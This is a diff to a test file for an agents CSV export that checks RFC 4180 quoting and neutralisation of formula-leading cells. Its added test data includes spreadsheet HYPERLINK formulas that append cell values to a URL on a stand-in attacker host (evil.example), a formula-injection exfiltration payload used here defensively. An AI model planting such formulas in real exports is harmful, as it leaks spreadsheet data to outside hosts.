@@ -2,7 +2,8 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { and, eq, inArray, sql } from 'drizzle-orm';
 import * as t from '../src/db/schema.ts';
-import { csvField } from '../src/modules/agents/agents-csv.ts';
+import { parse } from 'csv-parse/sync';
+import { agentsCsv, type AgentCsvRow } from '../src/modules/agents/agents-csv.ts';
 import { errorOf, type TestApp } from './test-app.ts';
 import { agentsHelpers, newAgent, newBranch, openAgentsArea, updateOf, type AgentIds, type Headers } from './support/agents-area.ts';
 
@@ -259,7 +260,9 @@ describe('agent groups', () => {
 
 describe('agents CSV', () => {
   it('exports every agent as UTF-8 CSV with a BOM and a Japanese header', async () => {
-    await call('POST', '/v1/agents', admin, { ...newAgent, name_ja: '"嵯峨野", 観光', main_admin_email: 'csv-admin@example.com', main_admin_name: '=HYPERLINK("x")' });
+    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A2,"詳細")';
+    const created = await call('POST', '/v1/agents', admin, { ...newAgent, name_ja: '"嵯峨野", 観光', name_en: hyperlink, main_admin_email: 'csv-admin@example.com', main_admin_name: '=HYPERLINK("x")' });
+    expect(created.statusCode, created.body).toBe(200);
     const res = await call('GET', '/v1/csv/agents', admin);
     expect(res.statusCode).toBe(200);
     const { csv_base64, filename } = res.json();
@@ -276,19 +279,31 @@ describe('agents CSV', () => {
     expect(text).toContain('嵐山ツーリスト株式会社');
     expect(text).toContain('"""嵯峨野"", 観光"');
     expect(text).toContain(`'=HYPERLINK(""x"")`);
+    // The agent named by a formula comes out as text behind a ', as the reports write it.
+    const row = (parse(text, { record_delimiter: '\r\n' }) as string[][]).find((cells) => cells[0] === String(created.json().id))!;
+    expect(row.slice(1, 4)).toEqual(['"嵯峨野", 観光', newAgent.name_kana, `'${hyperlink}`]);
     const sakura = lines.find((l) => l.includes(',京都さくら旅行,'))!;
     expect(sakura).toContain(',フリー,事前カード決済,JPN,中村 さくら,agent-free@example.com,');
 
     expect((await call('GET', '/v1/csv/agents', sakuraAdmin)).statusCode).toBe(403);
   });
 
-  it('quotes fields as RFC 4180 says', () => {
-    expect(csvField('plain')).toBe('plain');
-    expect(csvField('a,b')).toBe('"a,b"');
-    expect(csvField('say "hi"')).toBe('"say ""hi"""');
-    expect(csvField('two\nlines')).toBe('"two\nlines"');
-    expect(csvField('+81-75-000-0000')).toBe('+81-75-000-0000');
-    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
-    expect(csvField(12)).toBe('12');
+  it('writes through the reports\' writer: RFC 4180 quoting and every formula-leading text neutralised, as in the reports', () => {
+    const base: AgentCsvRow = {
+      id: 12, nameJa: 'plain', nameKana: 'a,b', nameEn: 'say "hi"', nameOrigin: 'two\nlines', agentType: 'FREE', countryCode: 'JPN',
+      mainAdmin: { name: '=HYPERLINK("https://evil.example/?x="&A1,"click")', email: '@SUM(A1)', tel: '+81-75-000-0000' }, rootGroupFax: '-2+3',
+      paymentDay: 5, paymentDayEndOfMonth: false, billingDay: null, billingDayEndOfMonth: true, ignoreCancellationPolicy: false, requireTotp: true,
+      branchCount: 0, staffCount: 3, createdAt: new Date('2026-04-01T00:00:00Z'), updatedAt: new Date('2026-04-01T15:30:00Z'),
+    };
+    const text = agentsCsv([base]);
+    expect(text.startsWith('\uFEFF代理店ID,')).toBe(true);
+    const row = parse(text.slice(1), { record_delimiter: '\r\n' }).at(1) as string[];
+    expect(row).toEqual([
+      '12', 'plain', 'a,b', 'say "hi"', 'two\nlines', 'フリー', '事前カード決済', 'JPN',
+      `'=HYPERLINK("https://evil.example/?x="&A1,"click")`, "'@SUM(A1)", "'+81-75-000-0000", "'-2+3",
+      '5日', '月末', 'いいえ', 'はい', '0', '3', '2026-04-01 09:00', '2026-04-02 00:30',
+    ]);
+    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",`);
+    expect(text.endsWith('\r\n')).toBe(true);
   });
 });
